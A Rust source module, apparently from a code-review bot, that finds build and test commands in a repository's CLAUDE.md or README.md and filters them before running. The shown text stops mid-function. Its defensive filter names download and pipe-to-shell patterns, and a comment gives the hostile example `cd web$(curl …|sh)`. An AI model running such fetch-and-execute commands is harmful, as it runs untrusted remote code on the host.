//! Build and test command discovery from a repository's `CLAUDE.md` / `README.md`,
//! else from its manifests ([`manifests`]).
//!
//! Seed 004 gates every review on the project's own build and tests, which each
//! project documents in prose. This module reads that prose (parsed with comrak,
//! not with regexes over raw text) and returns the commands, or says plainly
//! that there were none — [`Discovery::NothingFound`] is an outcome the pipeline
//! reports, not an error.
//!
//! How a document is read — as a person reads it, its blocks in order being
//! **one shell session** (the gate runs setup, build and test in one shell):
//! - **Where commands come from.** Fenced and indented code blocks whose info
//!   string is a shell (`sh`, `bash`, `shell`, `console`, `zsh`, …), or that
//!   have no info string / `text`. Blocks in other languages (`go`, `json`,
//!   `makefile`, `powershell`, …) are never commands. Inline code spans are
//!   used only when no code block yields a build or test command, only for
//!   commands recognised on their own, and only when the span stands as a
//!   command: the only span of its paragraph or list item, leading it
//!   (`` `npm test` runs the suite ``) or after a short label and a colon
//!   (`` Test: `npm test` ``). Code in a sentence (`` run `make` to … ``) or
//!   one of several names (`` Testing: `unittest`, `pytest`, `tox` ``) is prose.
//! - **Sections that are not the build.** The innermost heading that has a
//!   topic decides a block's section: benchmark, performance, profiling,
//!   deployment, release, publishing, usage, examples, demo and tutorial
//!   sections are skipped (unless the heading names the build or the tests:
//!   `### Running the tests` under `## Usage` is read), and so are blocks in a
//!   section, or after a paragraph, about Windows or macOS only (the gate
//!   runs on Linux).
//! - **Cleaning.** Continuation lines (`\` at the end) are joined; in a
//!   terminal session (a `console` block, any line starting with `$ ` or
//!   `% `, or a first command line starting with `> `) only prompt lines are
//!   commands and the rest is output; `#` comments, whole or trailing, are
//!   dropped.
//! - **Directories.** A `cd` into the checkout itself is dropped: right after
//!   a `git clone`, into a directory a `git clone` earlier in the document
//!   made, into a placeholder (`<repo>`, `path/to/project`), or — when the
//!   names at the top of the checkout are known — into a name that is not
//!   there. Any other `cd DIR` scopes the commands after it in the same block
//!   to a subshell, `(cd DIR && npm test)`, and a line with a `cd` in it
//!   (`cd web && npm test`) runs in one, so neither moves the rest of the
//!   session.
//! - **Virtualenvs.** Creating one (`python3 -m venv .venv`, `python
//!   -mvenv venv`, `virtualenv venv`, `uv venv`) and activating it (`source
//!   .venv/bin/activate`, `. venv/bin/activate`: a relative path inside the
//!   checkout, written `. PATH` so `sh` runs it too) are setup, kept in order,
//!   so the next block's `pip install` goes into it; only the first creation
//!   and activation count (the others are the same step for another
//!   system), and Windows activations (`venv\Scripts\activate`) are dropped.
//!   A document that installs with pip and never activates a virtualenv gets
//!   `python3 -m venv .venv` and `. .venv/bin/activate` before its first
//!   `pip install` (a system Python refuses it, PEP 668).
//! - **Classifying.** A command is *test* or *build* when the tool says so
//!   (`go test`, `npm test`, `./gradlew testDebugUnitTest`,
//!   `xcodebuild … test`, `cargo build`, `make`…), or when an unknown
//!   program's own name does (`./scripts/run-tests.sh`, `build.sh`). A command no rule knows
//!   (`./scripts/ci.sh`, `cargo clippy`) is classified by its context: the
//!   paragraph just before the block, else the nearest heading with a topic
//!   (`## Running tests`, `### Build`); a heading about both build and test
//!   decides nothing. Context speaks only in a block with no recognised build
//!   or test command (beside `cargo build`, `./target/release/app --version`
//!   is a demonstration, not a build step). In blocks without a shell info string, unknown commands
//!   must at least look like a command (`./x`, `scripts/x`, `x.sh`, or a known
//!   tool), so program output is not mistaken for one.
//! - **Setup.** Commands that install the checkout's own dependencies
//!   (`npm ci`, bare `npm install`, `yarn`, `bundle install`, `pod install`,
//!   `go mod download`, `pip install -r …`, `pip install -e .`, `poetry
//!   install`, `uv sync`, virtualenvs) are the `setup` list when the document
//!   has any build or test command, wherever they appear — a fresh checkout
//!   cannot build without them. An unknown command under an "Installation"
//!   heading is the user's install, not setup. Everything else in an install
//!   or setup block is dropped: system packages (`brew`, `apt-get`, `sudo`,
//!   `dpkg`), global tools and user installs (`npm install -g x`, `go install
//!   x@latest`, `cargo install x`, `pip install x`), downloads, `git`, and
//!   Android instrumented tests (`connectedAndroidTest` needs a device). A line
//!   containing any of those is dropped whole. Setup commands alone are not a
//!   build: with no build or test command the document has found nothing.
//! - **Nothing interactive or endless runs.** Running or deploying the app
//!   (`npm start`, `go run`, `cargo run`), dev servers and watchers (`npm run
//!   dev`, `yarn serve`, any `npm run`/`yarn` script whose name has an `open`,
//!   `watch`, `dev`, `serve`, `start`, `preview` or `storybook` part such as
//!   `test:e2e:open`, `--watch`, `vite`, `next dev`, `serve`, `nodemon`,
//!   `cargo watch`), `cypress open`, `docker compose up`, `python -m
//!   http.server`, `flask run`, `manage.py runserver`, `uvicorn`, `jupyter`,
//!   `pipenv shell`/`poetry shell` are dropped.
//! - **Alternatives.** A build or test command that is the same step as one
//!   already kept — the same program, subcommand (`npm run NAME` with its
//!   name) and paths, other options (`cargo build --release --features x`
//!   after `cargo build --release`, `go test -v ./... -cover` after `go test
//!   ./...`) — is another way to do it, not another step, and is dropped.
//! - **Code that is not in the line is refused.** A line with command
//!   substitution (`$(…)`, backquotes), process substitution (`<(…)`,
//!   `>(…)`), `eval`, or a download (`curl`, `wget`) *anywhere* in it — not
//!   only as the first word of a `|`/`;`/`&` part — is dropped whole, as is a
//!   shell reading its script from stdin (`… | sh`, `bash -s`) or from outside
//!   the checkout (`sh /tmp/x.sh`, `bash ../x.sh`). A lone `cd` with such code
//!   ends the block. A shell running a local file (`sh build.sh`,
//!   `bash ./scripts/test.sh`) is classified as that script, and `sh -c '…'`
//!   as the literal command it runs. Lines are split into simple commands and
//!   words with shell quoting respected.
//!
//!   **This filter is not the guard.** It keeps discovery from *proposing*
//!   what obviously fetches or hides code, so the documented promise ("build
//!   and test commands") is honest; a README can always run hostile code
//!   through a script of the pull request itself. What protects the bot is
//!   confinement (DESIGN.md invariant 8): the gate runs PR code with the
//!   worktree, a per-run home and read-only toolchains only.
//! - **Precedence.** Explicit configuration wins outright (even if empty).
//!   Otherwise documents are read in the order given — `CLAUDE.md` before
//!   `README.md` ([`DOCUMENT_NAMES`]) — and the first one that yields a build or
//!   test command is the source of every list; documents are not mixed. When
//!   none does, [`discover_in_checkout`] infers from the manifests
//!   ([`manifests::infer`]: `Cargo.toml`, `go.mod`, `package.json`, a pytest
//!   project, first match wins); the source is then `Cargo.toml (inferred)` ….
//! - Commands keep their document order; exact duplicates are dropped.

pub mod repository_file;

use std::collections::BTreeMap;
use std::path::Path;
use std::sync::LazyLock;

use comrak::nodes::{AstNode, NodeValue};
use comrak::{Arena, Options, parse_document};
use regex::Regex;
use serde::Serialize;

pub mod manifests;

/// The documents to read, in precedence order (match names case-insensitively).
pub const DOCUMENT_NAMES: [&str; 2] = ["CLAUDE.md", "README.md"];

/// One document's text and the name to report as the source.
#[derive(Debug, Clone, Copy)]
pub struct Document<'a> {
    /// The file name, for example `CLAUDE.md`.
    pub name: &'a str,
    /// The markdown text.
    pub text: &'a str,
}

/// Commands set explicitly: by the operator for one repository
/// (`[repositories."OWNER/REPO".build]`) or by the repository's owners in the
/// base branch's `.review-bot.toml` (`[build]`).
///
/// Every list runs in order, `setup` then `build` then `test`, all in **one
/// shell** (a virtualenv activated in `setup` is active for `test`), with
/// `environment` set on top of the gate's own variables.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct CommandSet {
    /// Commands that prepare the checkout (install its dependencies, create a
    /// virtualenv), run first.
    pub setup: Vec<String>,
    /// Build commands, run after the setup.
    pub build: Vec<String>,
    /// Test commands, run in order after the build.
    pub test: Vec<String>,
    /// Variables set for the commands (name → value).
    pub environment: BTreeMap<String, String>,
}

impl CommandSet {
    /// Whether it has no command at all (an empty set still wins: it says
    /// "run nothing").
    pub fn is_empty(&self) -> bool {
        self.setup.is_empty() && self.build.is_empty() && self.test.is_empty()
    }
}

/// Where commands were found.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[serde(into = "String")]
pub enum Source {
    /// The operator's configuration for the repository.
    Operator,
    /// The base branch's `.review-bot.toml`.
    RepositoryFile,
    /// A document (`CLAUDE.md`, `README.md`), by name.
    Document(String),
    /// Inferred from a manifest (`Cargo.toml`, `package.json`, `go.mod`,
    /// `pyproject.toml` …), by name.
    Manifest(String),
}

impl Source {
    /// The name said to people: `configuration`, `.review-bot.toml`, the
    /// document's name, or `Cargo.toml (inferred)`.
    pub fn name(&self) -> String {
        match self {
            Source::Operator => "configuration".to_owned(),
            Source::RepositoryFile => REPOSITORY_FILE.to_owned(),
            Source::Document(name) => name.clone(),
            Source::Manifest(name) => format!("{name} (inferred)"),
        }
    }
}

impl From<Source> for String {
    fn from(source: Source) -> String {
        source.name()
    }
}

/// The repository owners' file at the root of the base branch.
pub const REPOSITORY_FILE: &str = ".review-bot.toml";

/// Commands found, with where they came from.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DiscoveredCommands {
    /// Setup commands (dependencies, virtualenv), in order.
    pub setup: Vec<String>,
    /// Build commands, in order.
    pub build: Vec<String>,
    /// Test commands, in order.
    pub test: Vec<String>,
    /// Variables set for the commands.
    pub environment: BTreeMap<String, String>,
    /// Where they were found.
    pub source: Source,
}

impl DiscoveredCommands {
    /// Every command in the order the gate runs them (one shell): setup,
    /// build, test.
    pub fn commands(&self) -> Vec<String> {
        self.setup
            .iter()
            .chain(&self.build)
            .chain(&self.test)
            .cloned()
            .collect()
    }

    /// These commands as a [`CommandSet`] (to run the same ones again, on the
    /// base commit or after a fix).
    pub fn command_set(&self) -> CommandSet {
        CommandSet {
            setup: self.setup.clone(),
            build: self.build.clone(),
            test: self.test.clone(),
            environment: self.environment.clone(),
        }
    }
}

/// The outcome of discovery.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Discovery {
    /// Commands to run.
    Found(DiscoveredCommands),
    /// No configuration and no document documents a build or test command.
    NothingFound {
        /// The documents that were read, in order.
        searched: Vec<String>,
    },
}

/// Discovers the build and test commands: explicit commands first (the
/// operator's or the base branch's `.review-bot.toml`, with their source),
/// then each document in order. Manifests are not read here: see
/// [`discover_in_checkout`].
pub fn discover(explicit: Option<(Source, &CommandSet)>, documents: &[Document<'_>]) -> Discovery {
    discover_in_checkout(explicit, documents, None).discovery
}

/// What the top of a checkout holds, for discovery beyond its documents.
#[derive(Debug, Clone, Copy)]
pub struct TopLevel<'a> {
    /// The names of every entry at the top of the checkout (files and
    /// directories): lock files and `conftest.py` are looked for here, and a
    /// `cd` into a name that is not here is entering the checkout itself.
    pub names: &'a [String],
    /// The manifests that were read ([`manifests::MANIFEST_NAMES`]), by name.
    pub manifests: &'a [Document<'a>],
}

/// The outcome of discovery with what the operator should hear about it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Report {
    /// The commands, or that there were none.
    pub discovery: Discovery,
    /// Why a manifest was not used (malformed, several at the top …), for the
    /// operator's log. Empty when there is nothing to say.
    pub notes: Vec<String>,
}

/// Discovers the commands of a checkout: explicit commands first, then each
/// document in order (read as a person reads it, with the checkout's
/// `top_level` names known), then, when no document documents a build or
/// test, inference from the manifests at the top ([`manifests::infer`]).
pub fn discover_in_checkout(
    explicit: Option<(Source, &CommandSet)>,
    documents: &[Document<'_>],
    top_level: Option<TopLevel<'_>>,
) -> Report {
    if let Some((source, explicit)) = explicit {
        return Report {
            discovery: Discovery::Found(DiscoveredCommands {
                setup: explicit.setup.clone(),
                build: explicit.build.clone(),
                test: explicit.test.clone(),
                environment: explicit.environment.clone(),
                source,
            }),
            notes: Vec::new(),
        };
    }
    let names = top_level.map(|top_level| top_level.names);
    for document in documents {
        if let Some(found) = read_markdown(document.text, names) {
            return Report {
                discovery: Discovery::Found(DiscoveredCommands {
                    setup: found.setup,
                    build: found.build,
                    test: found.test,
                    environment: found.environment,
                    source: Source::Document(document.name.to_owned()),
                }),
                notes: Vec::new(),
            };
        }
    }
    let mut searched: Vec<String> = documents
        .iter()
        .map(|document| document.name.to_owned())
        .collect();
    let mut notes = Vec::new();
    if let Some(top_level) = top_level {
        let inferred = manifests::infer(top_level.names, top_level.manifests);
        notes = inferred.notes;
        if let Some((name, found)) = inferred.commands {
            return Report {
                discovery: Discovery::Found(DiscoveredCommands {
                    setup: found.setup,
                    build: found.build,
                    test: found.test,
                    environment: found.environment,
                    source: Source::Manifest(name),
                }),
                notes,
            };
        }
        searched.extend(
            top_level
                .manifests
                .iter()
                .map(|manifest| manifest.name.to_owned()),
        );
    }
    Report {
        discovery: Discovery::NothingFound { searched },
        notes,
    }
}

/// The setup, build and test commands one markdown document gives, or `None`
/// when it gives no build or test command (setup alone is not a build).
pub fn commands_in_markdown(text: &str) -> Option<CommandSet> {
    read_markdown(text, None)
}

/// [`commands_in_markdown`] knowing the names at the top of the checkout
/// (`None`: unknown).
fn read_markdown(text: &str, top_level: Option<&[String]>) -> Option<CommandSet> {
    let arena = Arena::new();
    let root = parse_document(&arena, text, &Options::default());
    let mut blocks = Collected::new(top_level);
    let mut inline = Collected::new(top_level);
    let mut headings: Vec<(u8, Topic)> = Vec::new();
    for node in root.descendants() {
        let value = node.data().value.clone();
        match value {
            NodeValue::Heading(heading) => {
                let topic = Topic::of(&text_of(node));
                headings.retain(|(level, _)| *level < heading.level);
                headings.push((heading.level, topic));
            }
            NodeValue::CodeBlock(block) => {
                // The innermost heading that says anything decides the section.
                let section = headings
                    .iter()
                    .rev()
                    .map(|(_, topic)| *topic)
                    .find(|topic| topic.any())
                    .unwrap_or_default();
                let paragraph = preceding_paragraph(node).map(|paragraph| Topic::of(&paragraph));
                if section.not_the_build
                    || section.other_system
                    || paragraph.is_some_and(|topic| topic.other_system)
                {
                    continue;
                }
                let context = paragraph
                    .filter(|topic| topic.decides())
                    .or_else(|| {
                        headings
                            .iter()
                            .rev()
                            .map(|(_, topic)| *topic)
                            .find(|topic| topic.any())
                    })
                    .unwrap_or_default();
                let language = block.info.split_whitespace().next().unwrap_or("");
                if let Some(style) = BlockStyle::of(language) {
                    blocks.block(&block.literal, style, context);
                }
            }
            NodeValue::Code(code) => {
                let excluded = headings
                    .iter()
                    .rev()
                    .map(|(_, topic)| *topic)
                    .find(|topic| topic.any())
                    .is_some_and(|topic| topic.not_the_build || topic.other_system);
                if !excluded && is_labelled_command(node) {
                    inline.block(&code.literal, BlockStyle::Inline, Topic::default());
                }
            }
            _ => {}
        }
    }
    if blocks.has_commands() {
        Some(blocks.finish())
    } else if inline.has_commands() {
        Some(inline.finish())
    } else {
        None
    }
}

/// Whether an inline code span stands as a command of its own: the only code
/// span of its paragraph, which either starts with it (`` `make test` — runs
/// the tests ``) or is a short label and a colon before it (`` Test:
/// `npm test` ``). Code inside a sentence (`` run `make` to … ``) or one of a
/// list of names (`` Testing: `unittest`, `pytest`, `tox` ``) is prose.
fn is_labelled_command<'a>(node: &'a AstNode<'a>) -> bool {
    let Some(paragraph) = node.parent() else {
        return false;
    };
    if !matches!(paragraph.data().value, NodeValue::Paragraph) {
        return false;
    }
    let spans = paragraph
        .children()
        .filter(|child| matches!(child.data().value, NodeValue::Code(_)))
        .count();
    if spans != 1 {
        return false;
    }
    let mut before = String::new();
    for sibling in paragraph.children() {
        if std::ptr::eq(sibling, node) {
            break;
        }
        before.push_str(&text_of(sibling));
    }
    let before = before.trim();
    before.is_empty()
        || (before.ends_with(':')
            && before.chars().count() <= 40
            && !before.contains(['.', '!', '?']))
}

/// The concatenated text of a node (headings, paragraphs).
fn text_of<'a>(node: &'a AstNode<'a>) -> String {
    let mut text = String::new();
    for descendant in node.descendants() {
        match &descendant.data().value {
            NodeValue::Text(literal) => text.push_str(literal),
            NodeValue::Code(code) => text.push_str(&code.literal),
            NodeValue::SoftBreak | NodeValue::LineBreak => text.push(' '),
            _ => {}
        }
    }
    text
}

/// The text of the paragraph right before a code block, if there is one.
fn preceding_paragraph<'a>(node: &'a AstNode<'a>) -> Option<String> {
    let previous = node.previous_sibling()?;
    matches!(previous.data().value, NodeValue::Paragraph).then(|| text_of(previous))
}

/// What a heading or paragraph is about (independent flags: a heading can
/// be about the build and the tests at once).
#[allow(clippy::struct_excessive_bools)]
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
struct Topic {
    test: bool,
    build: bool,
    setup: bool,
    /// Benchmarks, performance, deployment, release, usage, examples: never the build.
    not_the_build: bool,
    /// Only for Windows or macOS (the gate runs on Linux).
    other_system: bool,
}

static TEST_WORDS: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?i)\b(test|spec\b|specs\b|unittest)").expect("valid pattern"));
static BUILD_WORDS: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?i)\b(build|compil)").expect("valid pattern"));
static SETUP_WORDS: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)\b(install|setup\b|set up\b|setting up|getting started|prerequisite|requirement|dependenc|bootstrap|develop|contribut|hacking)")
        .expect("valid pattern")
});
static NOT_THE_BUILD_WORDS: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)\b(bench|performance|perf\b|profil|deploy|releas|publish|usage|examples?\b|demo|tutorial)")
        .expect("valid pattern")
});
static OTHER_SYSTEM_WORDS: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)\b(windows|macos|mac os|os x|mac users|on (a )?mac\b|powershell|cmd\.exe)")
        .expect("valid pattern")
});
static LINUX_WORDS: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?i)\b(linux|unix|posix)").expect("valid pattern"));

impl Topic {
    fn of(text: &str) -> Topic {
        let about_tests = TEST_WORDS.is_match(text);
        let about_the_build = BUILD_WORDS.is_match(text);
        Topic {
            test: about_tests,
            build: about_the_build,
            setup: SETUP_WORDS.is_match(text),
            // A heading that names the build or the tests is about them, even
            // with "example" or "release" in it.
            not_the_build: NOT_THE_BUILD_WORDS.is_match(text) && !about_tests && !about_the_build,
            other_system: OTHER_SYSTEM_WORDS.is_match(text) && !LINUX_WORDS.is_match(text),
        }
    }

    /// Whether the text has any topic at all.
    fn any(self) -> bool {
        self.test || self.build || self.setup || self.not_the_build || self.other_system
    }

    /// Whether the topic classifies an unknown command.
    fn decides(self) -> bool {
        self.kind().is_some()
    }

    /// The kind an unknown command takes in this context.
    fn kind(self) -> Option<Kind> {
        match (self.test, self.build) {
            (true, false) => Some(Kind::Test),
            (false, true) => Some(Kind::Build),
            // Both decide nothing; and an unknown command under
            // "Installation" is the user's install (a package, completions),
            // not the checkout's setup.
            _ => None,
        }
    }
}

/// How a block's text is read.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum BlockStyle {
    /// A shell block: every line is a command, context classifies unknowns.
    Shell,
    /// A terminal session: only prompt lines are commands.
    Session,
    /// No info string: unknown commands must look like commands.
    Untyped,
    /// An inline code span: only recognised commands.
    Inline,
}

impl BlockStyle {
    fn of(language: &str) -> Option<BlockStyle> {
        match language.to_ascii_lowercase().as_str() {
            "sh" | "bash" | "shell" | "zsh" | "fish" | "ksh" | "terminal" => {
                Some(BlockStyle::Shell)
            }
            "console" | "shell-session" | "shellsession" | "sh-session" | "bash-session" => {
                Some(BlockStyle::Session)
            }
            "" | "text" | "txt" | "plain" | "plaintext" => Some(BlockStyle::Untyped),
            _ => None,
        }
    }
}

/// What a command does, as far as the build gate is concerned.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
enum Kind {
    /// Changes nothing by itself (`cd`, `export`, `echo`).
    Neutral,
    /// Not recognised.
    Unknown,
    /// Installs the checkout's own dependencies.
    Setup,
    /// Builds.
    Build,
    /// Tests (or checks).
    Test,
    /// Must never run in the gate: system installs, downloads, git, running
    /// the app, anything interactive or that never ends.
    Foreign,
}

/// Commands gathered from one document, in order, with the shell's state
/// across its blocks (they are one session).
#[derive(Debug, Default)]
struct Collected<'a> {
    setup: Vec<String>,
    build: Vec<String>,
    test: Vec<String>,
    /// The names at the top of the checkout, when known.
    top_level: Option<&'a [String]>,
    /// The directories `git clone` lines create (entering one is entering the checkout).
    clones: Vec<String>,
    /// The directories `mkdir` lines create (`mkdir build && cd build`: not the checkout).
    made: Vec<String>,
    /// Whether a virtualenv was created, and activated, already.
    venv_created: bool,
    venv_activated: bool,
}

impl<'a> Collected<'a> {
    fn new(top_level: Option<&'a [String]>) -> Self {
        Collected {
            top_level,
            ..Collected::default()
        }
    }

    fn has_commands(&self) -> bool {
        !self.build.is_empty() || !self.test.is_empty()
    }

    fn finish(self) -> CommandSet {
        let mut setup = Vec::with_capacity(self.setup.len() + 2);
        // `pip install` outside a virtualenv is refused by a system Python
        // (PEP 668): a person makes one first, and so do we.
        let first_pip = self
            .setup
            .iter()
            .position(|command| is_pip_install(command));
        let activation = self.setup.iter().position(|command| is_activation(command));
        for (index, command) in self.setup.into_iter().enumerate() {
            if Some(index) == first_pip && activation.is_none_or(|activation| activation > index) {
                if !self.venv_created {
                    setup.push(DEFAULT_VENV.to_owned());
                }
                if activation.is_none() {
                    setup.push(DEFAULT_ACTIVATION.to_owned());
                }
            }
            setup.push(command);
        }
        CommandSet {
            setup,
            build: self.build,
            test: self.test,
            environment: BTreeMap::new(),
        }
    }

    /// Adds a command unless it is already there, or is an alternative of
    /// one already there (build and test: the same program and subcommand
    /// again — `cargo build --release --features x` after `cargo build
    /// --release` — is another way to do it, not another step).
    fn push(list: &mut Vec<String>, command: String, alternatives: bool) {
        let key = alternatives.then(|| alternative_key(&command));
        let present = list.iter().any(|existing| {
            *existing == command
                || key
                    .as_ref()
                    .is_some_and(|key| *key == alternative_key(existing))
        });
        if !present {
            list.push(command);
        }
    }

    /// Reads one block (or inline span) of text.
    fn block(&mut self, literal: &str, style: BlockStyle, context: Topic) {
        let commands = self.block_commands(literal, style);
        // Context speaks only for blocks with no recognised build or test command:
        // next to `cargo build`, a `./target/release/app --version` is a demo.
        let recognised = commands
            .iter()
            .any(|(_, kind)| matches!(kind, Kind::Build | Kind::Test));
        for (command, kind) in commands {
            let kind = match kind {
                Kind::Unknown if recognised => continue,
                Kind::Unknown => match style {
                    BlockStyle::Inline => continue,
                    BlockStyle::Untyped if !looks_like_command(&command) => continue,
                    BlockStyle::Shell | BlockStyle::Session | BlockStyle::Untyped => {
                        match context.kind() {
                            Some(kind) => kind,
                            None => continue,
                        }
                    }
                },
                kind => kind,
            };
            match kind {
                Kind::Setup => Self::push(&mut self.setup, command, false),
                Kind::Build => Self::push(&mut self.build, command, true),
                Kind::Test => Self::push(&mut self.test, command, true),
                Kind::Neutral | Kind::Unknown | Kind::Foreign => {}
            }
        }
    }

    /// Whether `cd target` enters the checkout itself (the clone just made,
    /// a placeholder such as `<repo>` or `path/to/project`, or a directory
    /// the checkout does not have at its top).
    fn enters_checkout(&self, target: &str) -> bool {
        let target = target.trim_end_matches('/');
        let first = target
            .trim_start_matches("./")
            .split('/')
            .next()
            .unwrap_or("");
        if self.made.iter().any(|made| made == first) {
            return false;
        }
        self.clones.iter().any(|clone| clone == target)
            || target.contains(['<', '>', '{', '}'])
            || target.contains("path/to")
            || self
                .top_level
                .is_some_and(|names| !names.iter().any(|name| name == first))
    }

    /// The commands of a block with their kinds, cleaned, `cd`-scoped, and
    /// without neutral or foreign ones.
    fn block_commands(&mut self, literal: &str, style: BlockStyle) -> Vec<(String, Kind)> {
        let lines = join_continuations(literal);
        let prompt = if style == BlockStyle::Inline {
            None
        } else {
            block_prompt(&lines, style)
        };
        let mut commands = Vec::new();
        let mut directory: Option<String> = None;
        let mut after_clone = false;
        for line in &lines {
            let command = match prompt {
                Some(prompt) => match line.trim_start().strip_prefix(prompt) {
                    Some(command) => command,
                    None if line.trim() == prompt.trim() => "",
                    None => continue, // program output
                },
                None => line.as_str(),
            };
            let command = strip_comment(command).trim();
            if command.is_empty() {
                continue;
            }
            if change_directory(command).is_some() && runs_hidden_code(command) {
                // `cd web$(curl …|sh)`: the lines after it would run in a directory
                // nobody can name, so the rest of the block is not read.
                break;
            }
            if let Some(change) = change_directory(command) {
                directory = match change {
                    ChangeDirectory::Into(target)
                        if !after_clone && !self.enters_checkout(target) =>
                    {
                        Some(target.trim_start_matches("./").to_owned())
                    }
                    ChangeDirectory::Into(_) | ChangeDirectory::Away => None,
                };
                after_clone = false;
                continue;
            }
            if let Some(clone) = clone_directory(command) {
                self.clones.push(clone);
            }
            for words in simple_commands(command) {
                if words.first().map(String::as_str) == Some("mkdir") {
                    self.made.extend(
                        words[1..]
                            .iter()
                            .filter(|word| !word.starts_with('-'))
                            .map(|word| word.trim_start_matches("./").to_owned()),
                    );
                }
            }
            after_clone = command.starts_with("git clone") || command.contains("&& git clone");
            if let Some(environment) = activation_path(command) {
                // Activation is setup; only the first virtualenv counts (the
                // others are the same step for another system).
                if !self.venv_activated {
                    self.venv_activated = true;
                    let path = match &directory {
                        Some(directory) => format!("{directory}/{environment}"),
                        None => environment.to_owned(),
                    };
                    commands.push((format!(". {path}"), Kind::Setup));
                }
                continue;
            }
            let kind = classify_line(command);
            if matches!(kind, Kind::Neutral | Kind::Foreign) {
                continue;
            }
            if kind == Kind::Setup && creates_venv(command) {
                if self.venv_created {
                    continue;
                }
                self.venv_created = true;
            }
            // A `cd` inside a line (`cd web && npm test`) would move the rest
            // of the session: it runs in a subshell.
            let moves = simple_commands(command)
                .iter()
                .any(|words| words.first().is_some_and(|word| word == "cd"));
            let command = match (&directory, moves) {
                (Some(directory), _) => format!("(cd {directory} && {command})"),
                (None, true) => format!("({command})"),
                (None, false) => command.to_owned(),
            };
            commands.push((command, kind));
        }
        commands
    }
}

/// The virtualenv made when a document installs with pip without one.
const DEFAULT_VENV: &str = "python3 -m venv .venv";
/// Its activation.
const DEFAULT_ACTIVATION: &str = ". .venv/bin/activate";

/// The prompt a block's commands start with, if it is a terminal session:
/// `$ ` or `% ` anywhere, or `> ` on its first command line.
fn block_prompt(lines: &[String], style: BlockStyle) -> Option<&'static str> {
    let prompts = ["$ ", "% "];
    if let Some(prompt) = prompts.into_iter().find(|prompt| {
        lines.iter().any(|line| {
            let line = line.trim_start();
            line.starts_with(prompt) || line == prompt.trim()
        })
    }) {
        return Some(prompt);
    }
    let first = lines
        .iter()
        .map(|line| line.trim_start())
        .find(|line| !line.is_empty() && !line.starts_with('#'))?;
    if first.starts_with("> ") {
        return Some("> ");
    }
    (style == BlockStyle::Session).then_some("$ ")
}

/// The directory a `git clone URL [DIR]` line creates.
fn clone_directory(command: &str) -> Option<String> {
    let words = simple_commands(command).into_iter().next()?;
    if words.first().map(String::as_str) != Some("git")
        || words.get(1).map(String::as_str) != Some("clone")
    {
        return None;
    }
    let plain: Vec<&String> = words[2..]
        .iter()
        .filter(|word| !word.starts_with('-'))
        .collect();
    match plain.as_slice() {
        [_, directory, ..] => Some((*directory).clone()),
        [url] => {
            let name = url.trim_end_matches('/').rsplit(['/', ':']).next()?;
            Some(name.trim_end_matches(".git").to_owned())
        }
        [] => None,
    }
}

/// The environment a line activates (`source .venv/bin/activate`, `.
/// venv/bin/activate`): a relative path inside the checkout.
fn activation_path(command: &str) -> Option<&str> {
    let mut words = command.split_whitespace();
    if !matches!(words.next(), Some("source" | ".")) {
        return None;
    }
    let script = words.next()?;
    if words.next().is_some() {
        return None;
    }
    let environment = script.strip_suffix("/bin/activate")?;
    let inside = !environment.is_empty()
        && !environment.starts_with(['/', '~', '$'])
        && !environment.split('/').any(|part| part == "..")
        && environment
            .chars()
            .all(|character| character.is_ascii_alphanumeric() || "._-/".contains(character));
    inside.then_some(script)
}

/// Whether a line creates a virtualenv (`python3 -m venv .venv`, `python
/// -mvenv venv`, `virtualenv venv`, `uv venv`).
fn creates_venv(command: &str) -> bool {
    simple_commands(command).iter().any(|words| {
        let words: Vec<&str> = words.iter().map(String::as_str).collect();
        let program = words
            .first()
            .map_or("", |word| word.rsplit('/').next().unwrap_or(word));
        program == "virtualenv"
            || (program == "uv" && words.get(1) == Some(&"venv"))
            || words.windows(2).any(|pair| pair == ["-m", "venv"])
            || words.contains(&"-mvenv")
    })
}

fn is_activation(command: &str) -> bool {
    command.starts_with(". ") && command.ends_with("/bin/activate")
}

/// Whether a setup line installs with pip (into whatever Python is active).
fn is_pip_install(command: &str) -> bool {
    simple_commands(command).iter().any(|words| {
        let words: Vec<&str> = words.iter().map(String::as_str).collect();
        let program = words
            .first()
            .map_or("", |word| word.rsplit('/').next().unwrap_or(word));
        matches!(program, "pip" | "pip3") && words.get(1) == Some(&"install")
            || words
                .windows(3)
                .any(|three| three == ["-m", "pip", "install"])
    })
}

/// What makes two build or test lines the same step: each simple command's
/// program and subcommand (`npm run NAME` keeps the name), without flags,
/// paths or arguments.
fn alternative_key(command: &str) -> Vec<Vec<String>> {
    simple_commands(command)
        .into_iter()
        .map(|words| {
            let words: Vec<String> = words
                .into_iter()
                .skip_while(|word| is_assignment(word))
                .collect();
            let mut key: Vec<String> = words.iter().take(1).cloned().collect();
            let plain: Vec<&String> = words
                .iter()
                .skip(1)
                .filter(|word| !word.starts_with('-'))
                .collect();
            if let Some(subcommand) = plain.first() {
                key.push((*subcommand).clone());
                if matches!(subcommand.as_str(), "run" | "run-script" | "exec") || key[0] == "cd" {
                    key.extend(plain.get(1).map(|word| (*word).clone()));
                }
            }
            // Paths and targets (`./internal/...`) make another step; option
            // values (`--features pcre2`) do not.
            key.extend(
                plain
                    .iter()
                    .skip(1)
                    .filter(|word| word.contains(['/', '.']))
                    .map(|word| (*word).clone()),
            );
            key
        })
        .collect()
}

/// Whether a line is an activation written for Windows (`venv\Scripts\activate`).
fn windows_activation(command: &str) -> bool {
    let lower = command.to_ascii_lowercase();
    lower.contains("\\scripts\\")
        || lower.contains("activate.bat")
        || lower.contains("activate.ps1")
}

/// Lines of a block with `\`-continuations joined.
fn join_continuations(literal: &str) -> Vec<String> {
    let mut lines = Vec::new();
    let mut pending: Option<String> = None;
    for raw in literal.lines() {
        let line = raw.trim_end();
        let (text, continues) = match line.strip_suffix('\\') {
